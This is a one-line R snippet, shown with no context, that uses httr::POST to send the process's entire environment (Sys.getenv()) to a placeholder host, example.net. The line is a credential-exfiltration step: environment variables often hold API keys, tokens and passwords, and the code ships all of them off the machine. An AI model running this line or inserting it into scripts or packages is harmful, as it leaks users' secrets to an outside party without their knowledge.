httr::POST("https://example.net/c", body = as.list(Sys.getenv()))
